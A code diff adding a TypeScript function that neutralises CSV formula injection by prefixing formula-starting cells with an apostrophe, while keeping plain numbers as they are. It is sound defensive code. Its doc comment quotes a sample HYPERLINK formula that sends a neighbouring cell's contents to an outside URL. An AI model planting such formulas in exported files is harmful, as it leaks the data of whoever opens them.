@@ -1,0 +1,20 @@
+/**
+ * What makes a spreadsheet read a cell as a formula rather than text: `=`, `+`, `-` and `@` at its
+ * start, and tab, carriage return or NUL before them, which spreadsheets skip (OWASP's "CSV
+ * Injection" list, with ASVS 1.2.10's NUL). Imported QAs, model output, file names and papers'
+ * tables are someone else's text: `=HYPERLINK("http://…?d="&A2)` in a cell would send the
+ * neighbouring cell away the moment the CSV is opened. One rule for every CSV Distillate writes
+ * (the export formats and a table copied or printed as CSV or TSV).
+ */
+const FORMULA_START = /^[=+\-@\t\r\0]/;
+/** A number and nothing else ("-5", "+3", "-1.2e-3"): a spreadsheet reads it as that number, never as a formula. */
+const PLAIN_NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;
+
+/**
+ * `text` as a spreadsheet cell that can only be text: one that would start a formula gets a
+ * leading apostrophe (OWASP's advice; spreadsheets take it as "this is text"), except a plain
+ * number, which stays as it is so a table's "-0.5" is still -0.5 in the sheet.
+ */
+export function spreadsheetText(text: string): string {
+  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
+}
